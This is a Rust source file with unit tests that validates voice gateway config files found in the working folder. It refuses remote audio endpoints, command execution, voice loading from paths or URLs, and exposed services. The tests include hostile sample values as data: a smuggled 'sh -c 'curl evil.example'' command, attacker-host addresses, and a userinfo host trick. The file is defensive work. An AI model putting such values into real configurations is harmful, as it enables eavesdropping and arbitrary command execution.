//! What a file that lies in the working folder must not do to the voice gateway: whoever put it there must not learn what is
//! said in a room, have a command run there, or let others use the tools.

use std::net::IpAddr;

use toolgate_voice::wyoming::Address;
use toolgate_voice::{CommandTts, Program, Recorder, VoiceSettings};

use super::strange::refused;
use super::{Config, ConfigError};

const PIPER: &str = "piper";

const SEND: &str = "say where what is heard and said is sent";
const RUN: &str = "say which command is run or which file is written";
const LOAD: &str = "say which file or address a voice is loaded from";
const OPEN: &str = "let others use the tools or the voice";
const LOGIN: &str = "say what is sent as your login";

impl Config {
    /// What is wrong with what such a file says of voices. What the command line says instead, in `used`, is not the file's.
    pub(crate) fn misleads_voice(&self, used: &VoiceSettings) -> Option<ConfigError> {
        let file = self.stranger()?;
        let own = &self.voice;
        let engine = |address: &str| misleading_engine(address);
        let service = |address: &str| (!is_loopback(address)).then_some(SEND);
        let offered = |address: &str| {
            let is_private = is_loopback(address) && !address.starts_with("unix://");
            (!is_private).then_some(OPEN)
        };
        let voice = |name: &str| (!is_plain(name) || may_be_piper(&used.tts)).then_some(LOAD);
        let judged: [(&str, &str, &str, Judge<'_>); 8] = [
            ("input", &own.input, &used.input, &engine),
            ("output", &own.output, &used.output, &engine),
            ("tts", &own.tts, &used.tts, &engine),
            ("ttsVoice", &own.tts_voice, &used.tts_voice, &voice),
            ("asr", &own.asr, &used.asr, &service),
            ("wake", &own.wake, &used.wake, &service),
            ("handle", &own.handle, &used.handle, &offered),
            ("serveTts", &own.serve_tts, &used.serve_tts, &offered),
        ];
        let mut wrong = judged.into_iter().filter_map(|(key, own, used, judge)| {
            let is_used = !own.is_empty() && own == used;
            let what = is_used.then(|| judge(own))??;
            Some(("voice", key, what))
        });
        let (section, key, what) = wrong.next().or_else(|| self.misleading_broker())?;
        self.error_about(section, key, &refused(file, what))
    }

    fn misleading_broker(&self) -> Option<(&'static str, &'static str, &'static str)> {
        // An address that is none is told of where it is used.
        let broker = self.mqtt.broker().ok()??;
        let address = broker.address();
        if !toolgate_models::is_this_machine(&address) {
            Some(("mqtt", "url", SEND))
        } else if !self.mqtt.password.is_empty() || !self.mqtt.username.is_empty() {
            Some(("mqtt", "password", LOGIN))
        } else if broker.username.is_some() {
            Some(("mqtt", "url", LOGIN))
        } else {
            None
        }
    }
}

/// What is wrong with a value, if anything is.
type Judge<'a> = &'a dyn Fn(&str) -> Option<&'static str>;

/// Sound may come from, and go to, services of this machine and programs that are known.
fn misleading_engine(value: &str) -> Option<&'static str> {
    let is_recorder = Recorder::ALL.iter().any(|one| one.name() == value);
    let mut known = ["none"]
        .iter()
        .chain(&Program::KNOWN)
        .chain(&CommandTts::KNOWN);
    if is_recorder || known.any(|name| *name == value) || is_loopback(value) {
        None
    } else if value.contains("://") {
        Some(SEND)
    } else {
        Some(RUN)
    }
}

/// True if a voice is named as one that an engine brings along: no path, no address, no option.
fn is_plain(voice: &str) -> bool {
    let is_part = |c: char| c.is_ascii_alphanumeric() || "_+-".contains(c);
    voice.starts_with(|c: char| c.is_ascii_alphanumeric()) && voice.chars().all(is_part)
}

/// True if piper speaks, or might: it takes every name for that of a file.
fn may_be_piper(tts: &str) -> bool {
    match tts {
        "" => {
            CommandTts::KNOWN
                .into_iter()
                .find(|name| is_installed(name))
                == Some(PIPER)
        }
        tts => tts == PIPER,
    }
}

/// True if a program can be started by this name.
pub(crate) fn is_installed(name: &str) -> bool {
    use std::os::unix::fs::PermissionsExt;
    let is_program = |path: &std::path::Path| {
        let found = std::fs::metadata(path);
        found.is_ok_and(|found| found.is_file() && found.permissions().mode() & 0o111 != 0)
    };
    if name.contains('/') {
        return is_program(name.as_ref());
    }
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path).any(|folder| is_program(&folder.join(name)))
}

/// True if speech goes to a file; what has several words is a command.
pub(crate) fn is_wav(output: &str) -> bool {
    let is_one = !output.contains(char::is_whitespace) && !output.contains("://");
    is_one && output.ends_with(".wav")
}

/// One word for whoever takes a command apart, whatever is in it.
pub(crate) fn quoted(word: &str) -> String {
    let is_plain = !word.contains(|c: char| c.is_whitespace() || "'\"\\".contains(c));
    match is_plain {
        true => word.to_owned(),
        false => format!("'{}'", word.replace('\'', r"'\''")),
    }
}

/// True if the gateway serves others.
pub(crate) fn offers(settings: &VoiceSettings) -> bool {
    !settings.handle.is_empty() || !settings.serve_tts.is_empty()
}

/// True if that is all it does: whoever gives another machine an agent has not asked for a microphone that is always open.
pub(crate) fn only_serves(settings: &VoiceSettings) -> bool {
    offers(settings) && settings.input.is_empty() && settings.wake.is_empty()
}

/// True if a Wyoming address is one that only this machine can reach.
fn is_loopback(address: &str) -> bool {
    let host = match address.parse() {
        Ok(Address::Tcp { host, .. }) => host,
        Ok(Address::Unix(_)) => return true,
        _ => return false,
    };
    let ip = host.parse::<IpAddr>();
    host == "localhost" || ip.is_ok_and(|ip| ip.to_canonical().is_loopback())
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::super::{Document, Place};
    use super::*;

    fn read(text: &str, place: Place) -> Config {
        let document = Document::parse(Path::new("t.json"), text.as_bytes()).unwrap();
        let mut config = Config::resolve(document, &|_| None).unwrap();
        config.place = place;
        config
    }

    #[test]
    fn a_file_in_the_working_folder_sends_no_voice_elsewhere_and_runs_nothing() {
        let (send, run, open, login) = (Some(SEND), Some(RUN), Some(OPEN), Some(LOGIN));
        for (section, key, value, expected) in [
            ("voice", "asr", "tcp://127.0.0.1:10300", None),
            ("voice", "asr", "tcp://[::1]:1", None),
            ("voice", "asr", "unix:///run/asr", None),
            ("voice", "asr", "tcp://10.0.0.7:10300", send),
            ("voice", "asr", "tcp://localhost:1@evil.example:80", send),
            ("voice", "asr", "tcp://0.0.0.0:80", send),
            ("voice", "wake", "tcp://evil.example:80", send),
            ("voice", "input", "arecord", None),
            ("voice", "input", "tcp://localhost:10700", None),
            ("voice", "input", "arecord -D hw:1", run),
            ("voice", "input", "./arecord", run),
            ("voice", "input", "tcp://evil.example:1", send),
            ("voice", "output", "none", None),
            ("voice", "output", "spoken.wav", run),
            ("voice", "output", "tcp://evil.example:1", send),
            ("voice", "tts", "espeak-ng", None),
            ("voice", "tts", "sh -c 'curl evil.example'", run),
            ("voice", "handle", "tcp://127.0.0.1:10800", None),
            ("voice", "handle", "tcp://0.0.0.0:10800", open),
            ("voice", "handle", "unix:///home/ada/.profile", open),
            ("voice", "serveTts", "tcp://192.168.1.2:1", open),
            ("mqtt", "url", "mqtt://localhost", None),
            ("mqtt", "url", "localhost:1883", None),
            ("mqtt", "url", "mqtt://evil.example", send),
            ("mqtt", "url", "mqtt://me:word@localhost", login),
        ] {
            let text = serde_json::json!({ section: { key: value } }).to_string();
            let config = read(&text, Place::Here);
            let error = config.misleads_voice(&config.voice);
            let error = error.map(|error| error.to_string());
            let expected = expected.map(|what| {
                format!(
                    "t.json:1:{}: {section}.{key}: {}",
                    section.len() + 6,
                    refused(Path::new("t.json"), what)
                )
            });
            assert_eq!(error, expected, "{text}");
            for place in [Place::Named, Place::User] {
                let config = read(&text, place);
                assert_eq!(config.misleads_voice(&config.voice), None, "{text}");
            }
        }
        let login = read(
            r#"{ "mqtt": { "url": "localhost", "password": "x" } }"#,
            Place::Here,
        );
        assert!(login.misleads_voice(&login.voice).is_some());
    }

    #[test]
    fn a_file_in_the_working_folder_names_a_voice_and_loads_none() {
        for (tts, voice, is_good) in [
            ("espeak-ng", "en-us+f3", true),
            ("flite", "slt", true),
            ("tcp://127.0.0.1:10200", "en_US-lessac-medium", true),
            ("flite", "http://evil.example/x.flitevox", false),
            ("flite", "x.flitevox", false),
            ("flite", "voices/x", false),
            ("espeak-ng", "-h", false),
            ("espeak-ng", "a b", false),
            ("piper", "x.onnx", false),
            // It would be looked for in the working folder.
            ("piper", "x", false),
        ] {
            let text = serde_json::json!({ "voice": { "tts": tts, "ttsVoice": voice } });
            let config = read(&text.to_string(), Place::Here);
            let error = config.misleads_voice(&config.voice);
            let error = error.map(|error| error.to_string());
            let expected = format!(
                "t.json:1:{}: voice.ttsVoice: {}",
                20 + tts.len(),
                refused(Path::new("t.json"), LOAD)
            );
            assert_eq!(error, (!is_good).then_some(expected), "{text}");
            let config = read(&text.to_string(), Place::User);
            assert_eq!(config.misleads_voice(&config.voice), None, "{text}");
        }
    }

    #[test]
    fn a_file_stays_one_word_and_a_command_stays_a_command() {
        for (output, expected) in [
            ("spoken.wav", "'/my house/spoken.wav'"),
            ("/a/spoken.wav", "/a/spoken.wav"),
            ("it's.wav", r"'/my house/it'\''s.wav'"),
            ("sox - spoken.wav", "sox - spoken.wav"),
            ("aplay", "aplay"),
        ] {
            let text = serde_json::json!({ "voice": { "output": output } }).to_string();
            let path = Path::new("/my house/t.json");
            let document = Document::parse(path, text.as_bytes()).unwrap();
            let config = Config::resolve(document, &|_| None).unwrap();
            assert_eq!(config.voice.output, expected);
        }
    }

    #[test]
    fn what_the_command_line_says_instead_is_not_the_files() {
        let text = r#"{ "voice": { "asr": "tcp://evil.example:1" } }"#;
        let config = read(text, Place::Here);
        let mut used = config.voice.clone();
        assert!(config.misleads_voice(&used).is_some());
        used.asr = "tcp://10.0.0.7:10300".to_owned();
        assert_eq!(config.misleads_voice(&used), None);
    }
}
